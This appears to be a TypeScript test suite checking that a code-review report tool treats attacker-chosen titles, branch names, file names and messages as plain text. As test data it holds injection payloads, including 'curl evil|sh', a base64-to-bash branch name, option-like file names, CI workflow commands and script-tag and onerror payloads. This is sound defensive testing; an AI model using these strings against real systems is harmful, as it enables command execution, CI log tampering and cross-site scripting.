/** Text that a change chooses, on its way to a page, a log, a shell or the forge. The numbers are those of the table in SECURITY.md. */
import { access } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { summary } from '../../src/report/summary.ts';
import { inert, visible } from '../../src/world/process/log.ts';
import { openLocal } from '../../src/world/sources/source-local.ts';
import { aChange, aFinding, anEvidence, aReport, aResult, unknownProvenance } from '../support/builders.ts';
import { render, tagsOf, textOf } from '../support/markdown-render.ts';
import { createRepo } from '../support/repo.ts';
import { commandsIn } from '../support/runner.ts';

const isThere = (path: string): Promise<boolean> =>
  access(path).then(
    () => true,
    () => false,
  );
const pageOf = (title: string): string => summary(aReport({ change: aChange({ title }) }));

/** What our own page is made of; all else would be the change's. */
const OURS = /^<\/?(?:h[1-6]|p|ul|ol|li|code|strong|details|summary|b|br)(?: \/)?>$|^<ol start="\d+">$/;

test.each(['"; curl evil|sh #', '\u0024{{ secrets.X }}', '$(id)', '`id`', '%0A::error::x', '"><script>id</script>'])(
  'C3.1: the title %j stands on the page as it was written, and does nothing there',
  (title) => {
    const rendered = render(pageOf(title));
    expect(tagsOf(rendered).filter((tag) => !OURS.test(tag))).toEqual([]);
    expect(textOf(rendered)).toContain(title.replaceAll('`', ''));
  },
);

test('C3.2: a branch that is a command is a name, to git and to us', async () => {
  const branch = 'a";{echo,aGk=}|{base64,-d}|bash;"&&touch,pwned';
  await using repo = await createRepo();
  await repo.commit({ files: { f: '1\n' } });
  await repo.branch(branch);
  await repo.commit({ files: { f: '2\n' } });
  await using opened = await openLocal({ repo: repo.directory, base: 'main', head: branch });
  const change = await opened.source.change();
  expect(change).toMatchObject({ branch, commits: [{ sha: await repo.sha() }] });
  expect(await isThere(join(repo.directory, 'pwned'))).toBe(false);
});

describe('C3.3: a line that a runner would obey', () => {
  test.each([
    '::set-output name=verdict::pass',
    '::add-mask::a',
    '::error file=x::',
    '::stop-commands::t',
    '::add-matcher::/tmp/x.json',
    '##[error]x',
    '##[add-mask]a',
  ])('%s is text in our log, also behind blanks and other ends of a line', (line) => {
    for (const before of ['', '  ', '\t', 'x\r', 'x\r\n', 'x\n\u200b', '\u2028', '\u0085', '\ufeff']) {
      expect(commandsIn(`${before}${line}`).length + Number(/^[\u2028\u0085]/.test(before))).toBeGreaterThan(0);
      expect(commandsIn(inert(`${before}${line}`))).toEqual([]);
    }
  });

  test('of another runner is none of this one’s, and keeps its words', () =>
    expect(inert('##vso[task.setvariable]x')).toBe('##vso[task.setvariable]x'));
});

test('C3.5: files that are called like options and commands are read by their names, and nothing is run', async () => {
  const names = [
    '$(touch pwned).js',
    '-rf',
    '--upload-pack=touch pwned',
    '--output=pwned',
    'a b;c.ts',
    '`touch pwned`',
  ];
  await using repo = await createRepo();
  await repo.commit({ files: { f: '1\n' } });
  await repo.branch('work');
  await repo.commit({ files: Object.fromEntries(names.map((name) => [name, `${name}\n`])) });
  await using opened = await openLocal({ repo: repo.directory, base: 'main', head: 'work' });
  const { files } = await opened.source.change();
  expect(files.map(({ path, added }) => [path, added.length])).toEqual([...names].sort().map((name) => [name, 1]));
  for (const name of names) expect(await opened.tree.read('head', name)).toBe(`${name}\n`);
  for (const folder of [repo.directory, process.cwd()]) expect(await isThere(join(folder, 'pwned'))).toBe(false);
});

test.each([
  '</details><img src=x onerror=1>',
  '<!--',
  '| a | b |\n|---|---|',
  '```\n# big',
  'x](javascript:alert(1))',
  '[x](http://evil.example)',
  '![](http://tracker.example/i.png)',
  '<details>'.repeat(50),
  '</summary></details>\n\n# ✓ Passed',
])('C3.6: %j on the page is words: no picture, no link, no heading, nothing left open', (text) => {
  const report = aReport({
    change: aChange({ title: text, notes: [text] }),
    results: [aResult({ because: text, findings: [aFinding({ message: text, help: text, reproduce: text })] })],
  });
  const tags = tagsOf(render(summary(report)));
  expect(tags.filter((tag) => !OURS.test(tag) && !/^<\/?pre>$|^<code class="language-\w+">$/.test(tag))).toEqual([]);
  for (const name of ['details', 'summary', 'pre', 'ul', 'ol'])
    expect(tags.filter((tag) => tag === `</${name}>`)).toHaveLength(
      tags.filter((tag) => tag.startsWith(`<${name}>`) || tag.startsWith(`<${name} `)).length,
    );
});

test.each(['@org/everyone', '#1', 'fixes #2', 'GH-3', 'acme/shop#4', 'deadbeefcafe0123'])(
  'C3.7: a name or a line that says %j calls nobody and refers to nothing',
  (text) => {
    const change = aChange({ title: `by ${text}`, notes: [`said by ${text}`] });
    const evidence = anEvidence({ quote: `Co-Authored-By: ${text} <x@example.com>`, scope: { kind: 'change' } });
    const page = summary(aReport({ change, provenance: unknownProvenance(change, { evidence: [evidence] }) }));
    // The forge reads what is left of a page outside of code.
    const outside = render(page).replace(/<code>[^<]*<\/code>/g, '');
    expect(page).toContain(text.split(' ').at(-1));
    expect(textOf(outside)).not.toContain(text.split(' ').at(-1));
  },
);

test('beyond the list: ends of a line that only some readers know make no second line in a log or an annotation', () => {
  for (const end of ['\r\n', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c']) {
    expect(commandsIn(inert(visible(`x${end}::error::pwn`)))).toEqual([]);
    expect(visible(`a${end}b`).replace('\r', '')).not.toMatch(/[\u2028\u2029\u0085\u000b\u000c]/);
  }
});

test('beyond the list: a rule that is called like a mention calls nobody on the page', () => {
  const rule = { rule: '@org/everyone fixes #2', mode: 'enforce', status: 'violated', because: ['@org/x'] } as const;
  const report = aReport();
  const rules = [{ ...rule, awaited: false, next: [{ who: '@org/y', what: 'closes #3' }] }];
  const page = summary({ ...report, verdict: { ...report.verdict, headline: '@org/z: fix #4', rules } });
  expect(textOf(render(page).replace(/<code>[^<]*<\/code>/g, ''))).not.toMatch(/@org|#\d/);
  expect(page).toContain('@org/everyone');
});
